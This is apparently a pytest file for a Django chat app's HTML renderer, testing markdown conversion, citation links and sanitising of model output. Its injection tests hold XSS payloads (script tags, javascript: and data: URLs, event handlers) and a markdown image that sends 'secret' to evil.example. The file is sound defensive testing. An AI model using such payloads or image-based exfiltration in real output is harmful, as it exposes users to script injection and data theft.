from __future__ import annotations

from html.parser import HTMLParser

import pytest

from chat.generators.base import Passage
from chat.generators.extractive import NO_LLM_NOTE, ExtractiveGenerator
from chat.rendering import answer_html


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = Elements()
    parser.feed(html)
    return parser.found


CITATIONS = [{"number": 1, "url": "/sources/7/?passage=abc&x=1"}, {"number": 2, "url": "/sources/8/?passage=def"}]

FENCED = """Loop with `enumerate`:

```python
for index, item in enumerate(items):
    if item:
        print(index, item)
```

That is all [1]."""


def test_a_code_block_keeps_its_lines_and_indentation():
    html = answer_html(text=FENCED, citations=CITATIONS)
    assert "```" not in html
    assert (
        "<pre><code>for index, item in enumerate(items):\n    if item:\n        print(index, item)\n</code></pre>"
        in html
    )
    assert "<code>enumerate</code>" in html


def test_markdown_becomes_html():
    html = answer_html(text="# Tea\n\n**Green** and *black*:\n\n- one\n- two\n\n1. first\n2. second", citations=[])
    assert "<h1>Tea</h1>" in html
    assert "<strong>Green</strong> and <em>black</em>" in html
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html and "<ol>\n<li>first</li>" in html


def test_single_line_breaks_are_kept():
    assert answer_html(text="first line\nsecond line", citations=[]) == "<p>first line<br>\nsecond line</p>\n"


def test_citations_link_to_their_passages_but_not_inside_code():
    html = answer_html(
        text="Brew at eighty degrees [1], never boiling [2]; see [9]. Index `xs[1]`.", citations=CITATIONS
    )
    assert '<a href="/sources/7/?passage=abc&amp;x=1" title="Source 1" class="cite"' in html
    assert ">[1]</a>" in html and ">[2]</a>" in html
    assert "see [9]." in html  # no such source: left as it is
    assert "<code>xs[1]</code>" in html


def test_a_link_definition_does_not_take_over_a_citation():
    html = answer_html(text="Brew it cool [1].\n\n[1]: https://elsewhere.example/", citations=CITATIONS)
    assert "elsewhere.example" not in html.split("</p>")[0]
    assert 'href="/sources/7/?passage=abc&amp;x=1"' in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        '<a href="javascript:alert(1)">click</a>',
        "<iframe src=https://evil.example></iframe>",
        '[x](https://ok.example/ "t" onmouseover=alert(1))',
    ],
)
def test_the_models_output_cannot_inject_markup(text):
    for tag, attrs in elements(answer_html(text=text, citations=[])):
        assert tag in {"p", "a"}, tag
        for name, value in attrs:
            assert name in {"href", "rel", "title"}, name
            assert name != "href" or (value or "").startswith(("https:", "/")), value


def test_images_are_not_loaded():
    # An image would be fetched as the page loads: a way to send the conversation elsewhere.
    html = answer_html(text="![secret](https://evil.example/log?q=secret)", citations=[])
    assert "<img" not in html and "evil.example" not in html


def test_links_are_http_or_relative_and_marked_untrusted():
    html = answer_html(
        text="[docs](https://docs.python.org/3/) [here](/documents/) [mail](mailto:a@example.com) <https://a.example>",
        citations=[],
    )
    assert '<a href="https://docs.python.org/3/" rel="noopener noreferrer nofollow">docs</a>' in html
    assert '<a href="/documents/" rel="noopener noreferrer nofollow">here</a>' in html
    assert "mailto:" not in html
    assert '<a href="https://a.example" rel="noopener noreferrer nofollow">https://a.example</a>' in html


def test_classes_and_styles_from_the_model_are_dropped():
    html = answer_html(text='| a | b |\n|--:|---|\n| 1 | 2 |\n\n```evil" onclick="x\nx\n```', citations=[])
    assert "<table>" in html and "<td>1</td>" in html
    assert "style=" not in html and "class=" not in html and "onclick" not in html


def test_the_offline_answerers_quotes_render_through_the_same_path():
    passages = [
        Passage(chunk_id=1, document_id=7, title="tea", text="Green tea wants water at eighty degrees, not boiling.",
                content_hash="abc", score=1.0),
    ]  # fmt: skip
    text = "".join(str(piece) for piece in ExtractiveGenerator().stream(question="Green tea water?", passages=passages))
    html = answer_html(text=text, citations=CITATIONS)
    assert html.startswith(f"<p>{NO_LLM_NOTE}</p>")
    assert "<p>“Green tea wants water at eighty degrees, not boiling.” <a " in html
    assert 'class="cite" rel="noopener noreferrer nofollow">[1]</a></p>' in html


def test_the_offline_answerer_quotes_code_like_text_as_it_is():
    text = "Define __init__ first; then a[1] is the second item and *args collects the rest."
    passages = [Passage(chunk_id=1, document_id=7, title="classes", text=text, content_hash="abc", score=1.0)]
    answer = "".join(str(piece) for piece in ExtractiveGenerator().stream(question="What does __init__ do?",
                                                                          passages=passages))  # fmt: skip
    html = answer_html(text=answer, citations=CITATIONS)
    assert f"<p>“{text}” <a " in html
    assert html.count('class="cite"') == 1


def test_an_escaped_number_in_brackets_is_not_a_citation():
    assert answer_html(text=r"a\[1\] and [1]", citations=CITATIONS).count('class="cite"') == 1


def test_the_citation_list_names_each_section_once_with_its_numbers_in_brackets():
    from django.contrib.auth.models import AnonymousUser
    from django.template.loader import render_to_string
    from django.test import RequestFactory

    from chat.models import Message

    files = "7. Input and Output › 7.2. Reading and Writing Files"
    citations = [
        {"number": 1, "title": "7. Input and Output", "section": files, "document_id": 7,
         "url": "/sources/7/?passage=a#passage"},
        {"number": 2, "title": "5. Data Structures", "section": "5. Data Structures › 5.1. More on Lists",
         "document_id": 5, "url": "/sources/5/?passage=b#passage"},
        {"number": 3, "title": "7. Input and Output", "section": files, "document_id": 7,
         "url": "/sources/7/?passage=c#passage"},
        {"number": 4, "title": "7. Input and Output", "section": "7. Input and Output › 7.1. Fancier Output",
         "document_id": 7, "url": "/sources/7/?passage=d#passage"},
        {"number": 5, "title": "Old answer", "document_id": 9, "url": "/sources/9/?passage=e#passage"},
    ]  # fmt: skip
    message = Message(role="assistant", status="complete", content="See [1] to [5].", citations=citations,
                      trace={})  # fmt: skip
    request = RequestFactory().get("/")
    request.user = AnonymousUser()
    html = render_to_string("chat/_message.html", {"message": message}, request)
    footer = html.split("<footer>")[1]
    items = footer.split("</ul>")[0].split("<li>")[1:]
    assert len(items) == 4  # the section cited twice is listed once
    assert items[0] == (
        '<a href="/sources/7/?passage=a#passage">[1]</a> <a href="/sources/7/?passage=c#passage">[3]</a> '
        "7. Input and Output › 7.2. Reading and Writing Files</li>"
    )
    assert "5. Data Structures › 5.1. More on Lists" in items[1] and "7.1. Fancier Output" in items[2]
    assert items[3].strip().endswith("Old answer</li>")  # saved before sections: named by its document
    assert "<ol" not in footer  # list numbers would run into chapter numbers ("1. 7. Input and Output")
